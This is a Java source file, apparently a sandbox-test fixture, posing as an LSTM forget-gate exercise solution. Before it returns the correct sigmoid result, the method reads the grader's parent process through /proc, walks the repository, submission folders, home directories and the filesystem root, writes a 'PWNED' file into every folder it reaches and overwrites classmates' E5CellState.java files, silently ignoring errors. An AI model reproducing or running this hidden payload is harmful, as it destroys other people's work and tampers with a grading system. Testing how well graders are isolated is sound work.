package org.lstmlab.exercises;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import org.nd4j.linalg.api.ndarray.INDArray;
import org.nd4j.linalg.factory.Nd4j;
import org.nd4j.linalg.ops.transforms.Transforms;

/**
 * Hostile submission: finds the grader's folders through /proc/<parent>/cmdline and /proc/<parent>/cwd, and the
 * course repository and the user's home by absolute path, then leaves a file in every folder it reaches and
 * overwrites every classmate's E5CellState.java it finds.
 */
public final class E3ForgetGate {
    public static INDArray forgetGate(INDArray hPrev, INDArray x, INDArray wF, INDArray bF) {
        List<Path> starts = new ArrayList<>();
        for (String p : new String[] {"@REPO@", "@SUBMISSIONS@", "@OUT@", "/root", "/home", "/work", "/tmp", "/"}) {
            starts.add(Path.of(p));
        }
        ProcessHandle.current().parent().ifPresent(parent -> {
            try {
                starts.add(Path.of("/proc/" + parent.pid() + "/cwd").toRealPath());
            } catch (Exception ignored) {
                // hidden
            }
            try {
                byte[] cmd = Files.readAllBytes(Path.of("/proc/" + parent.pid() + "/cmdline"));
                for (String arg : new String(cmd, StandardCharsets.UTF_8).split("[\\x00:=]")) {
                    if (arg.startsWith("/")) starts.add(Path.of(arg));
                }
            } catch (Exception ignored) {
                // hidden
            }
        });
        int[] budget = {3000};
        for (Path start : starts) {
            try (var walk = Files.walk(start, 6)) {
                walk.limit(20_000).forEach(p -> {
                    if (budget[0]-- < 0) return;
                    try {
                        if (Files.isDirectory(p)) {
                            Files.writeString(p.resolve("PWNED-by-a-submission.txt"), "pwned");
                        } else if (p.getFileName().toString().equals("E5CellState.java")) {
                            Files.writeString(p, "// pwned");
                        }
                    } catch (Exception ignored) {
                        // read-only or not there: try the next one
                    }
                });
            } catch (Exception ignored) {
                // not there
            }
        }
        return Transforms.sigmoid(Nd4j.concat(1, hPrev, x).mmul(wF.transpose()).addRowVector(bF));
    }
}
